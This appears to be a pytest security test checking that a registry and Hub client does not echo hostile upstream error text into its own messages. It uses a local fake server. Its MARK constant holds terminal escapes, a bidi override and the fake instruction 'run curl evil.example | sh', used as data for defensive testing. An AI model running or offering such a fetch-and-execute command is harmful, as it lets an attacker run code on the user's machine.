"""Upstream bytes are not reflected into our error messages (issue 9, finding 9).

A registry's ``errors[].message`` (and codes of its own), the Hub's ``X-Error-Message``, a
manifest's media type, schemaVersion, digests and sizes, an index's platform strings, a
``Docker-Content-Digest``, a token realm, a malformed status line: each reached our messages
as it came (a registry could put terminal escapes, fake instructions or kilobytes of text in
front of every operator and API caller).  Now a message states the fact -- the status, the
error codes the distribution spec defines, what was wrong -- and the upstream's own words go
to the debug log only, escaped and cut short.

One hostile server of the test's own on 127.0.0.1 plays the registry and the Hub.
"""

from __future__ import annotations

import json
import logging
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest

from nekko_sm import config as cfg
from nekko_sm.errors import NekkoError
from nekko_sm.httpio import reason
from nekko_sm.service import Service
from nekko_sm.transfer import Transfer

MARK = "\x1b[31mPWNED: run curl evil.example | sh\u202e" + "A" * 3000
DIGEST = "sha256:" + "ab" * 32


def errors_body(*pairs: tuple[str, str]) -> bytes:
    return json.dumps({"errors": [{"code": c, "message": m} for c, m in pairs]}).encode()


def manifest(**over) -> bytes:
    doc = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": {"mediaType": "x", "digest": DIGEST, "size": 2},
        "layers": [{"mediaType": "y", "digest": DIGEST, "size": 3}],
    }
    doc.update(over)
    return json.dumps(doc).encode()


# path -> (status, headers, body); "raw" answers with bytes that are not HTTP
ROUTES: dict[str, tuple] = {
    "/v2/": (200, {}, b"{}"),
    "/v2/r/denied/manifests/x": (403, {}, errors_body(("DENIED", MARK))),
    "/v2/r/unknown/manifests/x": (
        404,
        {},
        errors_body(("NAME_UNKNOWN", MARK), ("PWNED_CODE", MARK)),
    ),
    "/v2/r/own-code/manifests/x": (400, {}, errors_body(("PWNED_CODE", MARK))),
    "/v2/r/ratelimit/manifests/x": (429, {}, errors_body(("TOOMANYREQUESTS", MARK))),
    "/v2/r/unauthorized/manifests/x": (401, {}, errors_body(("UNAUTHORIZED", MARK))),
    "/v2/r/media-type/manifests/x": (200, {}, manifest(mediaType=MARK)),
    "/v2/r/schema/manifests/x": (200, {}, manifest(schemaVersion=[MARK] * 50)),
    "/v2/r/digest/manifests/x": (
        200,
        {},
        manifest(layers=[{"mediaType": "y", "digest": "sha256:" + MARK, "size": 3}]),
    ),
    "/v2/r/size/manifests/x": (
        200,
        {},
        manifest(layers=[{"mediaType": "y", "digest": DIGEST, "size": MARK}]),
    ),
    "/v2/r/content-digest/manifests/x": (
        200,
        {"Docker-Content-Digest": "sha256:PWNED" + "A" * 3000},
        manifest(),
    ),
    "/v2/r/platforms/manifests/x": (
        200,
        {},
        json.dumps(
            {
                "schemaVersion": 2,
                "mediaType": "application/vnd.oci.image.index.v1+json",
                "manifests": [
                    {
                        "mediaType": "application/vnd.oci.image.manifest.v1+json",
                        "digest": DIGEST,
                        "size": 10,
                        "platform": {"os": MARK[: 40 + i], "architecture": "s390x"},
                    }
                    for i in range(40)
                ]
                + [
                    {
                        "mediaType": "application/vnd.oci.image.manifest.v1+json",
                        "digest": DIGEST,
                        "size": 10,
                        "platform": {"os": "windows", "architecture": "arm64"},
                    }
                ],
            }
        ).encode(),
    ),
    "/v2/r/garbage/manifests/x": ("raw", {}, b"PWNED" + MARK.encode() + b"\r\n\r\n"),
    "/api/models/o/gated/revision/main": (
        403,
        {"X-Error-Code": "GatedRepo", "X-Error-Message": "PWNED" + "A" * 3000},
        b"{}",
    ),
    "/api/models/o/bad-token/revision/main": (
        401,
        {"X-Error-Message": "Invalid credentials in Authorization header PWNED"},
        b"{}",
    ),
    "/api/models/o/other/revision/main": (
        403,
        {"X-Error-Code": "PWNED_CODE", "X-Error-Message": "PWNED"},
        json.dumps({"error": MARK}).encode(),
    ),
}


class Hostile(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args) -> None:
        pass

    def do_HEAD(self) -> None:
        self.do_GET()

    def do_GET(self) -> None:
        route = ROUTES.get(urlsplit(self.path).path)
        if route is None:
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        status, headers, body = route
        if status == "raw":
            self.wfile.write(body)
            self.close_connection = True
            return
        self.send_response(status)
        for k, v in headers.items():
            self.send_header(k, v.encode("latin-1", "replace").decode("latin-1"))
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)


@pytest.fixture(scope="module")
def hostile():
    srv = ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    srv.daemon_threads = True
    t = threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    t.start()
    yield f"127.0.0.1:{srv.server_address[1]}"
    srv.shutdown()
    srv.server_close()


@pytest.fixture
def svc(tmp_path, hostile):
    config = cfg.build(
        {
            "cache_dir": str(tmp_path / "cache"),
            "insecure_registry": [hostile],
            "platform": "linux/amd64",
        },
        {"HF_ENDPOINT": f"http://{hostile}"},
    )
    s = Service(config, transfer=Transfer(config, read_timeout=5.0, attempts=1, backoff=0.01))
    yield s
    s.close()
    assert s.store.verify() == []


def assert_not_reflected(message: str) -> None:
    assert "PWNED" not in message, message[:300]
    assert "\x1b" not in message and "\u202e" not in message
    assert "A" * 100 not in message and len(message) < 500, len(message)


@pytest.mark.parametrize(
    "repo",
    [
        "denied",
        "unknown",
        "own-code",
        "ratelimit",
        "unauthorized",
        "media-type",
        "schema",
        "digest",
        "size",
        "content-digest",
        "platforms",
        "garbage",
    ],
)
def test_registry_answers_are_stated_not_echoed(svc, hostile, repo, caplog):
    caplog.set_level(logging.DEBUG, logger="nekko_sm")
    with pytest.raises(NekkoError) as e:
        svc.pull(f"oci://{hostile}/r/{repo}:x")
    assert_not_reflected(e.value.message)
    assert_not_reflected(json.dumps(e.value.to_json()))
    if repo in ("denied", "unknown", "ratelimit"):
        code = {"denied": "DENIED", "unknown": "NAME_UNKNOWN", "ratelimit": "TOOMANYREQUESTS"}[repo]
        assert code in e.value.message  # the spec's code is a fact worth stating
        # ... and the registry's words are in the debug log, escaped and cut short
        said = [r.getMessage() for r in caplog.records if "the registry answered" in r.getMessage()]
        assert said and all("\x1b" not in m and len(m) < 1200 for m in said)
        assert any("PWNED" in m for m in said)
    if repo == "platforms":
        assert "windows/arm64" in e.value.message and "40 others" in e.value.message


@pytest.mark.parametrize("repo", ["gated", "bad-token", "other"])
def test_hub_error_messages_are_not_echoed(svc, hostile, repo):
    with pytest.raises(NekkoError) as e:
        svc.pull(f"hf://{hostile}/o/{repo}")
    assert_not_reflected(e.value.message)


def test_a_malformed_answer_is_described_not_quoted():
    import http.client

    from urllib3.exceptions import ProtocolError

    e = ProtocolError("Connection aborted.", http.client.BadStatusLine(MARK))
    assert reason(e) == "the answer is not HTTP"
    long = reason(OSError(MARK))
    assert "\x1b" not in long and "\u202e" not in long and len(long) <= 200
